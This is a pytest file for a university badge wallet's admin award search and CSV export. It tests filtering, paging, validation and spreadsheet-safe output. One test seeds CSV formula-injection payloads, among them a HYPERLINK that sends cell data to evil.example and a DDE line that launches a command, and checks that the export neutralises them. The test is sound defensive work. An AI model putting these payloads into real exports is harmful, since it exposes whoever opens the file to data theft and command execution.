"""Finding awards across badge classes (/admin/awards) and the same list as CSV."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta
from html import unescape

from flask.testing import FlaskClient
from sqlalchemy.orm import Session

from tests.factories import AwardFactory, BadgeClassFactory, DepartmentFactory
from tests.web.admin_helpers import staff_client
from wallet.models import Award, AwardState

NOW = datetime(2026, 6, 1, 3, 0, tzinfo=UTC)
ROW = re.compile(r'<span class="recipient-name">([^<]*)</span>')
PAGE_LINK = re.compile(r'<a href="([^"]+)" rel="(prev|next)">')


def _names(page: str) -> list[str]:
    return [unescape(name) for name in ROW.findall(page)]


def _links(page: str) -> dict[str, str]:
    return {rel: unescape(href) for href, rel in PAGE_LINK.findall(page)}


def _seed() -> dict[str, Award]:
    """A few awards across two badge classes, states and dates."""
    data = BadgeClassFactory(name="データサイエンス入門", name_en="Intro to Data Science")
    robots = BadgeClassFactory(name="ロボット工学", name_en="Robotics")
    return {
        "hanako": AwardFactory(
            badge_class=data,
            recipient_name="静岡 花子",
            recipient_email="hanako@example.ac.jp",
            student_number="70310001",
            issued_on=NOW - timedelta(days=40),
        ),
        "jiro": AwardFactory(
            badge_class=data,
            recipient_name="浜松 次郎",
            recipient_email="jiro@example.ac.jp",
            student_number="70310002",
            state=AwardState.ISSUED,
            accepted_at=NOW,
            issued_on=NOW - timedelta(days=20),
        ),
        "taro": AwardFactory(
            badge_class=robots,
            recipient_name="Taro Shizuoka",
            recipient_email="taro@shizuoka.example.jp",
            student_number="70319999",
            revoked_at=NOW,
            revocation_reason="誤り",
            issued_on=NOW - timedelta(days=10),
        ),
        "hanako_robots": AwardFactory(
            badge_class=robots,
            recipient_name="静岡 花子",
            recipient_email="hanako@example.ac.jp",
            state=AwardState.PENDING,
            accepted_at=NOW,
            issued_on=NOW,
        ),
    }


def _search(client: FlaskClient, query: str) -> list[str]:
    response = client.get("/admin/awards?" + query)
    assert response.status_code == 200, response.get_data(as_text=True)[-2000:]
    return _names(response.get_data(as_text=True))


def test_the_list_starts_with_every_award_newest_first(client: FlaskClient) -> None:
    client, _staff, _issuer = staff_client(client)
    _seed()
    page = client.get("/admin/awards").get_data(as_text=True)
    assert _names(page) == ["静岡 花子", "Taro Shizuoka", "浜松 次郎", "静岡 花子"]
    assert "4 件" in page
    assert _search(client, "sort=oldest") == [
        "静岡 花子",
        "浜松 次郎",
        "Taro Shizuoka",
        "静岡 花子",
    ]


def test_search_by_part_of_a_name_an_address_or_a_student_number(client: FlaskClient) -> None:
    client, _staff, _issuer = staff_client(client)
    _seed()
    assert _search(client, "q=花子") == ["静岡 花子", "静岡 花子"]
    assert _search(client, "q=taro") == ["Taro Shizuoka"]  # any case
    assert _search(client, "q=@example.ac.jp") == ["静岡 花子", "浜松 次郎", "静岡 花子"]
    # typed with a Japanese input method: full-width, upper case
    assert _search(client, "q=ＪＩＲＯ＠") == ["浜松 次郎"]
    assert _search(client, "q=9999") == ["Taro Shizuoka"]
    assert _search(client, "q=７０３１０００２") == ["浜松 次郎"]
    assert _search(client, "q=nobody") == []


def test_text_too_short_for_the_trigram_index_is_not_counted(client: FlaskClient) -> None:
    client, _staff, _issuer = staff_client(client)
    _seed()
    short = client.get("/admin/awards?q=花子").get_data(as_text=True)
    assert "1〜2 文字の検索では件数を数えません" in short
    assert "2 件" not in short
    longer = client.get("/admin/awards?q=静岡 花子").get_data(as_text=True)
    assert "2 件" in longer
    assert "件数を数えません" not in longer


def test_like_wildcards_are_searched_as_typed(client: FlaskClient) -> None:
    client, _staff, _issuer = staff_client(client)
    _seed()
    AwardFactory(recipient_name="100%_合格")
    assert _search(client, "q=%25") == ["100%_合格"]
    assert _search(client, "q=_") == ["100%_合格"]
    assert _search(client, "q=%25_") == ["100%_合格"]


def test_filter_by_state_badge_and_dates(client: FlaskClient) -> None:
    client, _staff, _issuer = staff_client(client)
    awards = _seed()
    robots = awards["taro"].badge_class_id
    assert _search(client, "state=revoked") == ["Taro Shizuoka"]
    assert _search(client, "state=offered") == ["静岡 花子"]  # the revoked offer is not
    assert _search(client, "state=pending") == ["静岡 花子"]
    assert _search(client, f"badge_class={robots}") == ["静岡 花子", "Taro Shizuoka"]
    assert _search(client, f"badge_class={robots}&q=花子") == ["静岡 花子"]
    day = (NOW - timedelta(days=20)).date().isoformat()
    assert _search(client, f"issued_from={day}&issued_to={day}") == ["浜松 次郎"]
    assert _search(client, f"issued_from={day}") == ["静岡 花子", "Taro Shizuoka", "浜松 次郎"]
    assert _search(client, f"issued_to={day}") == ["浜松 次郎", "静岡 花子"]


def test_dates_are_the_offices_days(client: FlaskClient) -> None:
    """An award made at 00:30 in Tokyo on 1 April is 31 March in UTC."""
    client, _staff, _issuer = staff_client(client)
    AwardFactory(recipient_name="四月", issued_on=datetime(2026, 3, 31, 15, 30, tzinfo=UTC))
    AwardFactory(recipient_name="三月", issued_on=datetime(2026, 3, 31, 14, 30, tzinfo=UTC))
    assert _search(client, "issued_from=2026-04-01") == ["四月"]
    assert _search(client, "issued_to=2026-03-31") == ["三月"]


def test_a_search_is_a_link_that_keeps_what_was_typed(client: FlaskClient) -> None:
    client, _staff, _issuer = staff_client(client)
    _seed()
    page = client.get("/admin/awards?q=花子&state=pending&sort=oldest").get_data(as_text=True)
    assert '<form method="get"' in page
    assert 'value="花子"' in page
    assert '<option selected value="pending">' in page
    assert '<option selected value="oldest">' in page
    assert "/admin/awards.csv?q=%E8%8A%B1%E5%AD%90&amp;state=pending&amp;sort=oldest" in page


def test_bad_filter_values_are_a_400_with_a_message_and_the_input_kept(
    client: FlaskClient,
) -> None:
    client, _staff, _issuer = staff_client(client)
    _seed()
    cases = {
        "issued_from=2026-02-30&q=花子": ("YYYY-MM-DD", 'value="2026-02-30"'),
        "issued_from=2026-05-02&issued_to=2026-05-01": (
            "終了日が開始日より前",
            'value="2026-05-01"',
        ),
        "state=lost&q=花子": ("選択肢が正しくありません", 'value="花子"'),
        "badge_class=999999": ("選択肢が正しくありません", ""),
        "sort=sideways": ("選択肢が正しくありません", ""),
        "q=a%00b": ("制御文字", ""),
        "q=" + "あ" * 201: ("200", ""),
    }
    pages_only = {
        "after=12.x&q=taro": ("ページのリンクが壊れています", 'value="taro"'),
        "before=99999999999999999999999.1": ("ページのリンクが壊れています", ""),
        "after=1.99999999999": ("ページのリンクが壊れています", ""),
    }
    for query, (message, kept) in cases.items():
        for path in ("/admin/awards", "/admin/awards.csv"):
            response = client.get(f"{path}?{query}")
            page = response.get_data(as_text=True)
            assert response.status_code == 400, (path, query)
            assert message in page, (path, query)
            assert kept in page, (path, query)
            assert 'role="search"' in page
    for query, (message, kept) in pages_only.items():  # the CSV is every page at once
        response = client.get(f"/admin/awards?{query}")
        page = response.get_data(as_text=True)
        assert response.status_code == 400, query
        assert message in page, query
        assert kept in page, query
    # a date the date input cannot show is shown as typed
    page = client.get("/admin/awards?issued_from=2026-02-30").get_data(as_text=True)
    assert re.search(r'<input [^>]*name="issued_from" type="text" value="2026-02-30"', page)


def test_keyset_pages_walk_every_award_once_both_ways(
    client: FlaskClient, db_session: Session
) -> None:
    client, _staff, _issuer = staff_client(client)
    badge = BadgeClassFactory()
    # 120 awards, some sharing a moment: the id breaks the tie
    for i in range(120):
        AwardFactory(
            badge_class=badge,
            recipient_name=f"学生{i:03d}",
            issued_on=NOW - timedelta(hours=i // 3),
        )
    for sort in ("newest", "oldest"):
        pages: list[list[str]] = []
        url = f"/admin/awards?sort={sort}&q=学生"
        while url:
            page = client.get(url).get_data(as_text=True)
            pages.append(_names(page))
            url = _links(page).get("next", "")
        assert [len(p) for p in pages] == [50, 50, 20]
        seen = [name for p in pages for name in p]
        assert len(set(seen)) == 120
        # three awards an hour, the first three newest; a tie goes by id
        hours = range(40) if sort == "newest" else reversed(range(40))
        ids = [
            (3 * h + 2, 3 * h + 1, 3 * h) if sort == "newest" else (3 * h, 3 * h + 1, 3 * h + 2)
            for h in hours
        ]
        assert seen == [f"学生{i:03d}" for group in ids for i in group]
        # and back again from the last page
        back: list[list[str]] = [pages[-1]]
        while "prev" in _links(page):
            page = client.get(_links(page)["prev"]).get_data(as_text=True)
            back.insert(0, _names(page))
        assert back == pages


def test_the_count_stops_at_the_cap(client: FlaskClient, monkeypatch: object) -> None:
    from wallet.services.issuing import search

    client, _staff, _issuer = staff_client(client)
    _seed()
    monkeypatch.setattr(search, "COUNT_CAP", 3)  # type: ignore[attr-defined]
    page = client.get("/admin/awards").get_data(as_text=True)
    assert "3 件以上" in page


# -- CSV --------------------------------------------------------------------------------


def _csv(client: FlaskClient, query: str = "") -> list[list[str]]:
    response = client.get("/admin/awards.csv?" + query)
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="awards-')
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_csv_is_the_same_list(client: FlaskClient) -> None:
    client, _staff, _issuer = staff_client(client)
    _seed()
    rows = _csv(client, "q=花子&sort=oldest")
    header = ["氏名", "メールアドレス", "学籍番号", "バッジ名", "学部・研究科等", "状態"]
    assert rows[0][:6] == header
    assert [(r[0], r[1], r[3], r[5]) for r in rows[1:]] == [
        ("静岡 花子", "hanako@example.ac.jp", "データサイエンス入門", "未受け取り"),
        ("静岡 花子", "hanako@example.ac.jp", "ロボット工学", "受け取り済み（台帳への記録待ち）"),
    ]
    revoked = _csv(client, "state=revoked")[1]
    assert revoked[5] == "取り消し済み"
    assert "誤り" in revoked
    assert len(_csv(client)) == 5


def test_formula_cells_are_neutralised(client: FlaskClient) -> None:
    client, _staff, _issuer = staff_client(client)
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ]
    for i, name in enumerate(hostile):
        AwardFactory(recipient_name=name, student_number=f"-{i}", issued_on=NOW - timedelta(i))
    rows = _csv(client, "sort=newest")[1:]
    assert [r[0] for r in rows] == ["'" + name for name in hostile]
    assert [r[2] for r in rows] == [f"'-{i}" for i in range(len(hostile))]
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_a_large_export_streams_every_row(client: FlaskClient) -> None:
    client, _staff, _issuer = staff_client(client)
    badge = BadgeClassFactory()
    for i in range(1205):
        AwardFactory(badge_class=badge, recipient_name=f"学生{i}")
    rows = _csv(client)
    assert len(rows) == 1206
    assert len({r[0] for r in rows[1:]}) == 1205


def test_filter_and_export_by_department(client: FlaskClient) -> None:
    client, _staff, issuer = staff_client(client)
    engineering = issuer.departments[0]
    education = DepartmentFactory(issuer=issuer, name="教育学部", name_en="Faculty of Education")
    robots = BadgeClassFactory(department=engineering, name="ロボット工学")
    drones = BadgeClassFactory(department=engineering, name="ドローン操縦")
    teaching = BadgeClassFactory(department=education, name="教職実践")
    AwardFactory(badge_class=robots, recipient_name="工学 太郎", issued_on=NOW)
    AwardFactory(badge_class=drones, recipient_name="工学 次郎", issued_on=NOW - timedelta(days=1))
    AwardFactory(badge_class=teaching, recipient_name="教育 花子", issued_on=NOW)
    page = client.get("/admin/awards").text
    assert "すべての学部・研究科等" in page
    assert _search(client, f"department={engineering.id}") == ["工学 太郎", "工学 次郎"]
    assert _search(client, f"department={education.id}") == ["教育 花子"]
    assert _search(client, f"department={education.id}&badge_class={robots.id}") == []
    rows = _csv(client, f"department={engineering.id}")
    assert [(r[0], r[3], r[4]) for r in rows[1:]] == [
        ("工学 太郎", "ロボット工学", "工学部"),
        ("工学 次郎", "ドローン操縦", "工学部"),
    ]
    unknown = client.get("/admin/awards?department=999999")
    assert unknown.status_code == 400
    assert "工学 太郎" not in unknown.text
